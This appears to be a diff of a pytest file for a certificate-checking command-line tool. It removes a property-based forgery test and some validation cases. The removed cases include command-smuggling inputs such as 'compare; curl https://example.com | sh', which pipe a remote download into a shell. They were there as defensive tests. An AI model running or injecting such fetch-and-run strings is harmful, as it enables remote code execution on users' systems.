@@ -10,19 +10,15 @@ import io
 import json
 from collections.abc import Callable
 from contextlib import redirect_stderr, redirect_stdout
-from functools import cache
 from typing import Any
 from unittest.mock import patch
 
 import pytest
-from hypothesis import given, settings
-from hypothesis import strategies as st
 
 from ops.command_line import cli
 from support.answers import answer
-from support.law import schedules
 from support.ops import FakeClock
-from unit.ops.certificates import places, replaced, sealed
+from unit.ops.certificates import sealed
 
 NAMES = ("certificate-go", "certificate-no-go", "certificate-not-proven", "certificate-rehearsal")
 CODES = dict(zip(NAMES, (0, 1, 3, 3), strict=True))
@@ -128,16 +124,6 @@ FORGED = {
         )
     },
     "a check without its gate": ("not-proven", "checks 0", {"gates": False}),
-    **{
-        f"a step that opens the project or is none of its commands: {step}": ("no-go", "checks 3", {"step": step})
-        for step in (
-            {"job": "open", "options": {}},
-            {"job": "remove", "options": {}},
-            {"job": "compare; curl https://example.com | sh", "options": {}},
-            {"job": "compare", "options": {"again; curl https://example.com": True}},
-            {"job": "compare", "options": {}, "command": "curl https://example.com | sh"},
-        )
-    },
     "a comparison of a year ago": (
         "go",
         "",
@@ -188,124 +174,7 @@ def test_forged_text_is_not_shown(check, tmp_path, name, lang):
 
     forged = answer(name)
     forged |= dict.fromkeys(("text", "text_zh"), "GO: all 9,999,999 objects are there.")
-    if forged["sample"]:
-        forged["sample"] |= dict.fromkeys(("bound", "bound_zh"), "None of all objects differs.")
     assert shown(sealed(forged)) == shown(answer(name))
-
-
-# Fields that can change without a contradiction in the document, and the reason. `*` is any name or place.
-FREE = {
-    "text": "what certify says in words; shown nowhere",
-    "text_zh": "the same",
-    "checks.*.seen": "certify's words, quoted as such",
-    "checks.*.seen_zh": "the same",
-    "checks.*.wanted": "the same",
-    "checks.*.wanted_zh": "the same",
-    "checks.*.next": "the same",
-    "checks.*.next_zh": "the same",
-    "checks.*.keys": "the first of the keys that certify speaks of",
-    "checks.*.step": "another command of this project, or none",
-    "checks.*.waits": "whether asking again helps: decides nothing",
-    "made_by": "a stranger compares it with a release",
-    "source_bucket": "listings tell whether it is this bucket",
-    "destination_bucket": "the same",
-    "log_bucket": "decides nothing",
-    "frozen_since": "users say it; only that the comparison began later can be seen",
-    "passes.*.pass": "names in the log bucket",
-    "passes.*.objects_per_minute": "decides nothing",
-    "passes.*.started": "only the order of times can be seen",
-    "passes.*.twin": "a listing with ETags tells, if both are the same",
-    "passes.standstill.began": "the same, and that it is not too early",
-    "closed": "the mark in the log bucket tells; what it says is held against the standstill pass",
-    "run": "the same",
-    "migration": "the log bucket tells",
-    "open_projects": "the same",
-    "oms": "OMS's console tells; what is said is held against the check",
-    "passes.*.ended": "the same",
-    "source.state_digest": "a listing with ETags and times tells",
-    "last_written": "a listing with times tells; what it says is held against the freeze",
-    "classes.*.keys": "examples, of which only the scope can be seen",
-    "classes.older.in_vain": "OMS's mode and CRC64s tell; that they are no more than the objects is seen below",
-    "classes.overwritten.in_vain": "the same",
-    "classes.outside.digests": "not in scope: in no sum",
-    "classes.canary.digests": "the same",
-    "classes.oms_own.digests": "OMS's own lists, which grow: in no sum",
-    "sample.population": "as many as are not larger than 1 GiB, of which only the bytes of all tell",
-    "sample.bytes": "a listing shows",
-    "sample.seed": "the same",
-    "sample.keys": "the same",
-    "sample.unreadable": "OSS tells; only the scope can be seen",
-    "headers.migrated": "OMS tells; what is said is held against the check",
-    "headers.more": "a listing shows, of each folder",
-    "headers.gone": "both buckets tell; only the scope can be seen",
-    "headers.problem": "certify's words, where headers were to be compared and were not",
-    "headers.documented.*.keys": "the same as of classes",
-    "headers.unexpected.*.keys": "the same",
-    "accepted.*": "who accepts it, and why",
-    "shown": "decides nothing",
-}
-# Checks whose result no number in the document decides: only the verdict has to follow from them.
-DECIDED_BY_CERTIFY = ("SUMS", "NOTHING_WAITS", "TASK", "CLOCK")
-
-
-def is_free(document: Document, path: tuple[Any, ...]) -> bool:
-    """Return True if the value at this path, or a container of it, is in the list above."""
-    if path[0] == "checks" and path[2:] == ("result",):
-        return document["checks"][path[1]]["id"] in DECIDED_BY_CERTIFY and document["verdict"] != "GO"
-    ways = [path[:end] for end in range(1, len(path) + 1)]
-    return any(
-        len(pattern := free.split(".")) == len(way)
-        and all(name in ("*", str(other)) for name, other in zip(pattern, way, strict=True))
-        for way in ways
-        for free in FREE
-    )
-
-
-def others(value: object) -> list[object]:
-    """Return possible replacements of a value."""
-    match value:
-        case bool() | None:
-            return [value is None or not value, 0, "x"]
-        case int():
-            return [value + 1, value - 1, 2 * value + 3, -value - 1, float(value), True, None]
-        case str() if value.endswith("Z") and value[:2] == "20":
-            return [value.replace("2026-", year) for year in ("2025-", "2027-")] + ["", None, value + " "]
-        case str():
-            return [value + "x", "", None, "GO", "passed", "failed", "not run", "not proven", "missing"]
-        case list():
-            return [value[1:], [*value, *value[:1]], [*value, "x"], None, [*value[::-1], 1]]
-        case dict() if len(value) > 1:
-            *unchanged, (name, first), (other, second) = value.items()
-            return [None, {}, {**dict(unchanged), name: second, other: first}]
-        case dict():
-            return [None]
-    return []
-
-
-# The hash is computed again, and only a listing identifies the folders.
-LEFT_OUT = (("sha256",), ("folders",))
-
-
-@cache
-def forgeries() -> list[tuple[str, tuple[Any, ...], object]]:
-    """Return each forgery: the example, the path, and the replacement."""
-    return [
-        (name, path, other)
-        for name, document in ((name, answer(name)) for name in NAMES)
-        for path, value in places(document)
-        if path not in LEFT_OUT and not is_free(document, path)
-        for other in others(value)
-        if json.dumps(other) != json.dumps(value)
-    ]
-
-
-@pytest.mark.part
-@pytest.mark.long
-@settings(max_examples=schedules(1))
-@given(forgery=st.deferred(lambda: st.sampled_from(forgeries())))
-def test_any_forged_value_contradicts_the_document(check, forgery):
-    name, path, other = forgery
-    assert is_refused(check(sealed(replaced(answer(name), path, other)), "--lang", "en"))
 
 
 @pytest.mark.parametrize("into", [*answer("certificate-go")["classes"], "new"])
